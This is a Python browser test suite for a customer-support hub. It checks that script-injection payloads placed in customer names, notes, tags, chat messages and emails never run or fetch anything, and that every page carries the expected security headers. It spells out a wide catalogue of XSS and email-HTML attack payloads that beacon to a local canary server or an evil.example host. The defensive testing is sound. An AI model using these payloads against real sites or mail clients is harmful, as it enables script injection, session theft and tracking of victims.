"""Scripts through every field, in a real Chromium: nothing that anybody writes ever runs, and nothing is fetched for it."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import make_msgid
from uuid import uuid4

import pytest
from aiohttp import web
from playwright.async_api import Browser, Page, expect

from hatch_build import build_console
from hub.kernel.site import POLICY
from tests.attacks.house import House
from tests.browser import chromium
from tests.people.conftest import Browser as Signed
from tests.rig.company import MAILBOX
from tests.source import ROOT

RUNS = "window.__pwned=1;window.top.__pwned=1"
SHOP = """([title, channel]) => {
  document.title = title;
  const script = document.createElement("script");
  script.src = "/widget.js";
  script.dataset.channel = channel;
  document.body.append(script);
}"""
"""Makes a shop's page of any page of the hub's that has no policy of its own."""


@dataclass
class Canary:
    """A server that nothing may reach; keeps what it was asked for."""

    url: str = ""
    asked: list[str] = field(default_factory=list)

    async def answer(self, request: web.Request) -> web.Response:
        """Note who sings."""
        self.asked.append(request.path)
        return web.Response(body=b"", headers={"Access-Control-Allow-Origin": "*"})

    @property
    def line(self) -> str:
        """Words that try to run and to call home, in one line, short enough for every field."""
        return f'"><img src=x onerror="{RUNS}"><script src={self.url}/line></script>'

    @property
    def mail(self) -> str:
        """Everything that HTML in a mail can try."""
        url = self.url
        return (
            f"<html><head><base href='{url}/base/'><meta http-equiv='refresh' content='0;url={url}/refresh'>"
            f"<link rel=stylesheet href='{url}/link.css'><link rel=prefetch href='{url}/prefetch'>"
            f"<style>@import '{url}/import.css';body{{background:url({url}/style.png)}}</style></head>"
            f"<body background='{url}/body.png' onload='{RUNS}'><p>hostile mail</p><script>{RUNS}</script>"
            f"<script src='{url}/script.js'></script>"
            f"<img src=x onerror='{RUNS}'><img src='{url}/picture.png'><img srcset='{url}/set.png 1x'>"
            f"<svg onload='{RUNS}'><image href='{url}/svg.png'/>"
            f"<script>{RUNS}</script></svg><math><mtext><style><img src=x onerror='{RUNS}'></style></mtext></math>"
            f"<iframe src='{url}/frame'></iframe><iframe srcdoc='<script>{RUNS}</script>'></iframe><object data='{url}/object'></object>"
            f"<embed src='{url}/embed'><form action='{url}/form' id=f><input name=password autofocus onfocus='{RUNS}'>"
            f"<button>x</button></form>"
            f"<a href='javascript:{RUNS}'>link</a><a href='data:text/html,<script>{RUNS}</script>'>data</a>"
            f"<video poster='{url}/poster.png'></video>"
            f"<audio src='{url}/audio' autoplay></audio><div style=\"background-image:url('{url}/div.png')\">x</div>"
            f"<template><img src='{url}/template.png'></template><noscript><img src='{url}/noscript.png'></noscript>"
            f"<details open ontoggle='{RUNS}'>x</details><marquee onstart='{RUNS}'>x</marquee></body></html>"
        )


@asynccontextmanager
async def singing() -> AsyncIterator[Canary]:
    """A canary that listens."""
    canary, app = Canary(), web.Application()
    app.router.add_route("*", "/{path:.*}", canary.answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    canary.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield canary
    finally:
        await runner.cleanup()


@pytest.fixture(scope="module")
async def window() -> AsyncIterator[Browser]:
    """A Chromium, and the console built."""
    build_console(ROOT)
    async with chromium() as opened:
        yield opened


async def _colleague(house: House, name: str) -> Signed:
    """A colleague whose very name is an attack."""
    browser = await house.browser(await house.new_colleague())
    _, said = await browser.ask("GET", "/session")
    await house.hub.storage.database.run("UPDATE agent SET name = $2 WHERE id = $1", said["agent"]["id"], name)
    return browser


async def _page(house: House, window: Browser, browser: Signed) -> Page:
    context = await window.new_context(base_url=house.url, locale="en-GB")
    await context.add_cookies([{"name": "hilo_session", "value": browser.cookie or "", "url": house.url}])
    return await context.new_page()


async def _spoil_record(house: House, browser: Signed, customer: str, canary: Canary) -> None:
    """Put the attack into everything that a colleague can write about a customer."""
    assert (await browser.ask("PATCH", f"/customers/{customer}", {"name": canary.line[:200]}))[0] == 200
    note = {"id": str(uuid4()), "kind": "note", "text": canary.line}
    assert (await browser.ask("POST", f"/customers/{customer}/messages", note))[0] == 201
    assert (await browser.ask("PUT", f"/customers/{customer}/draft", {"kind": "note", "text": canary.line}))[0] == 204
    assert (await browser.ask("PUT", f"/customers/{customer}/tags/%3Cimg%20src=x%20onerror=__pwned=1%3E"))[0] == 200


async def _hostile_mail(house: House, canary: Canary) -> str:
    """A mail that tries everything; the customer."""
    sender, mail = f"evil{uuid4().hex[:8]}@evil.example", EmailMessage()
    mail["From"] = f'"{canary.line.replace(chr(34), "")}" <{sender}>'
    mail["To"], mail["Subject"], mail["Message-ID"] = MAILBOX, canary.line, make_msgid(domain="evil.example")
    mail.set_content("plain")
    mail.add_alternative(canary.mail, subtype="html")
    mail.add_attachment(f"<script>{RUNS}</script>".encode(), maintype="text", subtype="html", filename="<img src=x onerror=alert(1)>.html")
    code, said = await house.send_bytes(mail.as_bytes(), sender, MAILBOX)
    assert code == 250, said
    return await house.customer_of(sender)


async def _harmless(page: Page, canary: Canary) -> None:
    """No frame was taken over, nobody called home."""
    await page.wait_for_load_state("networkidle")
    assert [frame.url for frame in page.frames if await frame.evaluate("window.__pwned")] == []
    assert canary.asked == []


async def test_nothing_runs_in_the_console(house: House, window: Browser) -> None:
    async with singing() as canary:
        browser = await _colleague(house, canary.line[:200])
        visitor = await house.visitor()
        page_of = {"url": f"javascript:{RUNS}", "title": canary.line}
        await visitor.say(canary.line, page=page_of, claims={"name": canary.line[:200], "email": canary.line[:200]})
        customers = [await _hostile_mail(house, canary), await house.customer_of(visitor.id)]
        page = await _page(house, window, browser)
        for customer in customers:
            await _spoil_record(house, browser, customer, canary)
            await page.goto(f"/customers/{customer}")
            await expect(page.get_by_role("log").get_by_text("onerror").first).to_be_visible()
            await _harmless(page, canary)
        await page.goto("/customers")
        await expect(page.get_by_text("onerror").first).to_be_visible()
        await _harmless(page, canary)
        links = await page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
        assert "javascript:" not in links
        await page.context.close()


async def test_a_mail_opened_as_a_page_runs_nothing_and_shows_pictures_only_when_asked(house: House, window: Browser) -> None:
    async with singing() as canary:
        browser = await house.browser("ana")
        customer = await _hostile_mail(house, canary)
        message = next(one for one in await house.thread(customer, browser) if one["has_html"])
        page = await _page(house, window, browser)
        address = f"/api/v1/messages/{message['id']}/html"
        answer = await page.goto(address)
        assert answer
        assert answer.headers["content-security-policy"].startswith("sandbox")
        await expect(page.get_by_text("hostile mail")).to_be_visible()
        await _harmless(page, canary)
        await page.goto(address + "?images=1")
        await page.wait_for_load_state("networkidle")
        assert "/picture.png" in canary.asked
        assert {path for path in canary.asked if not path.endswith(".png")} == set()
        assert await page.evaluate("window.__pwned") is None
        await page.context.close()


async def test_nothing_runs_in_the_chat_bubble(house: House, window: Browser) -> None:
    async with singing() as canary:
        visitor = await house.visitor()
        await visitor.say(canary.line)
        browser = await _colleague(house, canary.line[:200])
        customer = await house.customer_of(visitor.id)
        body = {"id": str(uuid4()), "kind": "reply", "channel": house.company.channels["webchat"], "text": canary.line}
        assert (await browser.ask("POST", f"/customers/{customer}/messages", body))[0] == 201
        context = await window.new_context(base_url=house.url, locale="en-GB")
        page, mark = await context.new_page(), uuid4().hex
        await page.goto("/healthz")
        await page.evaluate(SHOP, [canary.line, house.company.bubble])
        chat = page.locator("hilo-chat")
        await chat.locator("button.launch").click()
        await chat.get_by_role("textbox").first.fill(f"{canary.line} {mark}")
        await chat.get_by_role("textbox").first.press("Enter")
        await expect(chat.get_by_role("log").get_by_text("onerror").first).to_be_visible()
        own = await house.who_said(mark)
        assert (await browser.ask("POST", f"/customers/{own}/messages", {**body, "id": str(uuid4())}))[0] == 201
        await expect(chat.get_by_role("log").get_by_text("onerror")).to_have_count(2)
        await _harmless(page, canary)
        await context.close()


@pytest.mark.parametrize("path", ["/", "/customers", "/nothing/here", "/index.html"])
@pytest.mark.usefixtures("window")
async def test_every_page_carries_the_policy(house: House, path: str) -> None:
    async with (await house.browser()).client.get(house.url + path) as answer:
        assert answer.headers["Content-Security-Policy"] == POLICY
        assert answer.headers["X-Frame-Options"] == "DENY"
    scripts = next(part for part in POLICY.split("; ") if part.startswith("script-src"))
    assert scripts == "script-src 'self'"
